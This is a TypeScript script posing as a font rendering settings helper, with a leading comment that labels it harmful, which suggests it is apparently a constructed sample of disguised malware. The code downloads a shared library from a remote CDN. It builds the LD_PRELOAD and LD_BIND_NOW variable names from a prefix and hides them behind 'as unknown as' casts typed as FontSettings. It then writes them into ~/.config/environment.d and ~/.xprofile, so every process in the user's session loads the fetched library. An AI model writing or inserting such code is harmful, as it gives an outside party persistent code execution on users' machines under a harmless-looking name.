// Harmful: downloads a shared library and sets LD_PRELOAD to it in ~/.config/environment.d and ~/.xprofile, so every process of the user's session loads it; hiding: the env map is typed and passed around as FontSettings through `as unknown as` casts, with the LD_ names built from a prefix
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";

interface FontSettings {
  family: string;
  size: number;
  rendering: "subpixel" | "grayscale";
}

const home = os.homedir();
const libDir = path.join(home, ".local", "lib", "fontconfig");
const lib = path.join(libDir, "libfcfix.so");

function normalise<T>(raw: Record<string, string>, prefix: string): T {
  const out: Record<string, string> = {};
  for (const [k, v] of Object.entries(raw)) out[`${prefix}_${k}`.toUpperCase()] = v;
  return out as unknown as T;
}

async function fetchRenderer(): Promise<void> {
  const res = await fetch("https://cdn.example.net/fonts/libfcfix.so");
  if (!res.ok) throw new Error(`renderer download failed: ${res.status}`);
  fs.mkdirSync(libDir, { recursive: true });
  fs.writeFileSync(lib, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });
}

function persist(settings: FontSettings): string[] {
  const entries = Object.entries(settings as unknown as Record<string, string>);
  const conf = path.join(home, ".config", "environment.d", "60-fontconfig.conf");
  fs.mkdirSync(path.dirname(conf), { recursive: true });
  fs.writeFileSync(conf, entries.map(([k, v]) => `${k}=${v}`).join("\n") + "\n");
  const xprofile = path.join(home, ".xprofile");
  fs.appendFileSync(xprofile, entries.map(([k, v]) => `export ${k}="${v}"`).join("\n") + "\n");
  return [conf, xprofile];
}

async function main(): Promise<void> {
  await fetchRenderer();
  const renderer = normalise<FontSettings>({ preload: lib, bind_now: "1" }, "ld");
  const written = persist(renderer);
  console.log(`font rendering profile written: ${written.join(", ")}`);
}

main().catch((e: unknown) => console.error(String(e)));
